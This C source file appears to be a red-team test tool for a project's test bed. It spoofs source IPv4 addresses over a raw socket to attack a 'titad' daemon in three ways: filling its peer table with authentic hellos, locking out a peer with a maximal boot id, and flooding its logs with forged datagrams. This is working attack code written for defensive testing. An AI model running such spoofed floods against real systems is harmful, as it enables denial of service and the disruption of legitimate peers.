// SPDX-License-Identifier: MIT
/*
 * tita-spoof: a key holder's attacks on a titad, from spoofed source
 * addresses (a raw IPv4 socket), bounded in rate and time, for the bed's
 * red-team tests (tests/bed/redteam-peers.sh):
 *
 *   tita-spoof --to ADDR --key FILE hellos --sources N --pps R --seconds S
 *       authentic hellos (MAC'd with the cluster key, each listing its own
 *       source as its port) from N sources in 10.99.0.0/16, round robin:
 *       a peer table filled with "known" peers, as finding 3 saw it
 *   tita-spoof --to ADDR --key FILE boot --from ADDR --boot-id X
 *       one authentic hello from ADDR with boot id X (2^64-1 locked the
 *       peer at ADDR out, finding 3)
 *   tita-spoof --to ADDR forged --pps R --seconds S
 *       forged datagrams (a good header, version 2 and 1 in turn, a random
 *       MAC) from a new random source in 10.99.0.0/16 each: a log flood
 *       within every per-source limit (finding 4)
 *
 * Authentic datagrams are in version 2, the framing titad writes.
 *
 * --port (default 4792). Prints what it sent as JSON.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "wire.h"

#define MAX_PPS 100000
#define MAX_SECONDS 30
#define MAX_SOURCES 65000

static uint64_t mono_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static int read_key(const char *path, struct tita_wire_keyring *kr)
{
	uint8_t key[TITA_WIRE_KEY_BYTES];
	char hex[256];
	size_t n = 0;
	FILE *f = fopen(path, "r");

	if (!f || !fgets(hex, sizeof(hex), f)) {
		if (f)
			fclose(f);
		return -1;
	}
	fclose(f);
	for (size_t i = 0; hex[i] && n < TITA_WIRE_KEY_BYTES * 2; i++) {
		char c = hex[i];
		int v = c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;

		if (v < 0)
			continue;
		if (n % 2 == 0)
			key[n / 2] = (uint8_t)(v << 4);
		else
			key[n / 2] |= (uint8_t)v;
		n++;
	}
	if (n != TITA_WIRE_KEY_BYTES * 2)
		return -1;
	tita_wire_keyring_init(kr);
	tita_wire_keyring_add(kr, 1, key);
	return 0;
}

/* One UDP datagram from src to dst:port through the raw socket. */
static int send_from(int raw, uint32_t src, const struct sockaddr_in *dst, const void *payload,
		     size_t len)
{
	uint8_t pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + TITA_WIRE_MAX_BYTES];
	struct iphdr ip = { .version = 4,
			    .ihl = 5,
			    .ttl = 64,
			    .protocol = IPPROTO_UDP,
			    .saddr = src,
			    .daddr = dst->sin_addr.s_addr };
	struct udphdr udp = { .source = htons(4792), .dest = dst->sin_port };

	if (len > TITA_WIRE_MAX_BYTES)
		return -1;
	ip.tot_len = htons((uint16_t)(sizeof(ip) + sizeof(udp) + len));
	udp.len = htons((uint16_t)(sizeof(udp) + len));
	/* IPv4 UDP without a checksum (0) is valid; the kernel fills in the
	 * IP header's own. */
	memcpy(pkt, &ip, sizeof(ip));
	memcpy(pkt + sizeof(ip), &udp, sizeof(udp));
	memcpy(pkt + sizeof(ip) + sizeof(udp), payload, len);
	return sendto(raw, pkt, sizeof(ip) + sizeof(udp) + len, 0, (const struct sockaddr *)dst,
		      sizeof(*dst)) < 0 ?
		       -1 :
		       0;
}

static uint32_t spoofed(uint32_t i)
{
	/* 10.99.0.0/16, never .0 or .255 in the last octet. */
	return htonl(0x0a630000u | ((i / 254) % 256) << 8 | (i % 254 + 1));
}

static void usage(FILE *out)
{
	fprintf(out, "Usage: tita-spoof --to ADDR [--port P] [--key FILE] hellos --sources N "
		     "--pps R --seconds S\n"
		     "       tita-spoof --to ADDR --key FILE boot --from ADDR --boot-id X\n"
		     "       tita-spoof --to ADDR forged --pps R --seconds S\n");
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "to", required_argument, NULL, 't' },
		{ "port", required_argument, NULL, 'p' },
		{ "key", required_argument, NULL, 'k' },
		{ "sources", required_argument, NULL, 'n' },
		{ "pps", required_argument, NULL, 'r' },
		{ "seconds", required_argument, NULL, 's' },
		{ "from", required_argument, NULL, 'f' },
		{ "boot-id", required_argument, NULL, 'b' },
		{ "help", no_argument, NULL, 'h' },
		{ 0 },
	};
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(4792) };
	struct tita_wire_keyring kr;
	const char *key = NULL, *mode;
	long sources = 1000, pps = 1000, seconds = 1;
	uint32_t from = 0;
	uint64_t boot_id = 0, sent = 0, errors = 0, seq = 1, rng = 0;
	uint8_t buf[TITA_WIRE_MAX_BYTES];
	int c, raw;

	while ((c = getopt_long(argc, argv, "+h", opts, NULL)) != -1) {
		switch (c) {
		case 't':
			if (inet_pton(AF_INET, optarg, &to.sin_addr) != 1)
				return usage(stderr), 2;
			break;
		case 'p':
			to.sin_port = htons((uint16_t)atoi(optarg));
			break;
		case 'k':
			key = optarg;
			break;
		case 'n':
			sources = atol(optarg);
			break;
		case 'r':
			pps = atol(optarg);
			break;
		case 's':
			seconds = atol(optarg);
			break;
		case 'f':
			if (inet_pton(AF_INET, optarg, &from) != 1)
				return usage(stderr), 2;
			break;
		case 'b':
			boot_id = strtoull(optarg, NULL, 0);
			break;
		case 'h':
			usage(stdout);
			return 0;
		default:
			usage(stderr);
			return 2;
		}
	}
	/* Options may follow the mode as well. */
	mode = optind < argc ? argv[optind++] : "";
	while ((c = getopt_long(argc, argv, "h", opts, NULL)) != -1) {
		switch (c) {
		case 'n':
			sources = atol(optarg);
			break;
		case 'r':
			pps = atol(optarg);
			break;
		case 's':
			seconds = atol(optarg);
			break;
		case 'f':
			if (inet_pton(AF_INET, optarg, &from) != 1)
				return usage(stderr), 2;
			break;
		case 'b':
			boot_id = strtoull(optarg, NULL, 0);
			break;
		default:
			usage(stderr);
			return 2;
		}
	}
	if (!to.sin_addr.s_addr || pps < 1 || pps > MAX_PPS || seconds < 1 ||
	    seconds > MAX_SECONDS || sources < 1 || sources > MAX_SOURCES ||
	    (strcmp(mode, "forged") && (!key || sodium_init() < 0 || read_key(key, &kr)))) {
		usage(stderr);
		return 2;
	}
	raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (raw < 0) {
		perror("tita-spoof: raw socket");
		return 1;
	}
	if (getrandom(&rng, sizeof(rng), 0) != sizeof(rng) || !rng)
		rng = mono_ns() | 1;
	if (!strcmp(mode, "boot")) {
		struct tita_wire_sender tx = { .key_id = 1, .boot_id = boot_id, .seq = 1 };
		struct tita_wire_hello h = { .n_ports = 1,
					     .control_interval_ns = 1000000,
					     .grant_ttl_ns = 100000000 };
		int n;

		h.ports[0].addr = tita_addr_from_ipv4((const uint8_t *)&from);
		h.ports[0].line_rate_bps = 100000000000ull;
		n = tita_wire_encode_hello(&kr, &tx, &h, buf, sizeof(buf));
		if (n < 0 || !from)
			return usage(stderr), 2;
		errors += send_from(raw, from, &to, buf, (size_t)n) < 0;
		sent++;
	} else if (!strcmp(mode, "hellos") || !strcmp(mode, "forged")) {
		uint64_t t0 = mono_ns(), end = t0 + (uint64_t)seconds * 1000000000ull;
		uint64_t gap = 1000000000ull / (uint64_t)pps, next = t0;
		uint64_t max = (uint64_t)pps * (uint64_t)seconds;
		bool hellos = !strcmp(mode, "hellos");

		while (sent < max) {
			uint64_t now = mono_ns();
			uint32_t src;
			size_t n;

			if (now >= end)
				break;
			if (next > now) {
				struct timespec ts = { next / 1000000000ull, next % 1000000000ull };

				clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
			}
			next = (next > now ? next : now) + gap;
			rng ^= rng << 13;
			rng ^= rng >> 7;
			rng ^= rng << 17;
			src = hellos ? spoofed((uint32_t)(sent % (uint64_t)sources)) :
				       spoofed((uint32_t)(rng % MAX_SOURCES));
			if (hellos) {
				/* Each source its own daemon, a boot id behind
				 * the wall clock as a real one's is. */
				struct tita_wire_sender tx = { .key_id = 1,
							       .boot_id = 1000,
							       .seq = seq++ };
				struct tita_wire_hello h = { .n_ports = 1,
							     .control_interval_ns = 1000000,
							     .grant_ttl_ns = 100000000 };
				int r;

				h.ports[0].addr = tita_addr_from_ipv4((const uint8_t *)&src);
				h.ports[0].line_rate_bps = 100000000000ull;
				r = tita_wire_encode_hello(&kr, &tx, &h, buf, sizeof(buf));
				if (r < 0)
					return 1;
				n = (size_t)r;
			} else {
				/* magic, version 2 or 1 in turn (both
				 * decoded), flags 0, key id 1, boot id,
				 * sequence, a body, and a MAC that is not
				 * one; long enough for either framing. */
				n = TITA_WIRE_V1_HDR_BYTES + 48 + TITA_WIRE_V1_MAC_BYTES;
				for (size_t i = 0; i < n; i++)
					buf[i] = (uint8_t)(rng >> (i % 8 * 8));
				memcpy(buf, "TITA", 4);
				buf[4] = sent % 2 ? TITA_WIRE_V1_VERSION : TITA_WIRE_VERSION;
				buf[5] = 0;
				memset(buf + 6, 0, 3);
				buf[9] = 1;
			}
			errors += send_from(raw, src, &to, buf, n) < 0;
			sent++;
		}
	} else {
		usage(stderr);
		return 2;
	}
	printf("{\"mode\":\"%s\",\"sent\":%" PRIu64 ",\"errors\":%" PRIu64 "}\n", mode, sent,
	       errors);
	return 0;
}
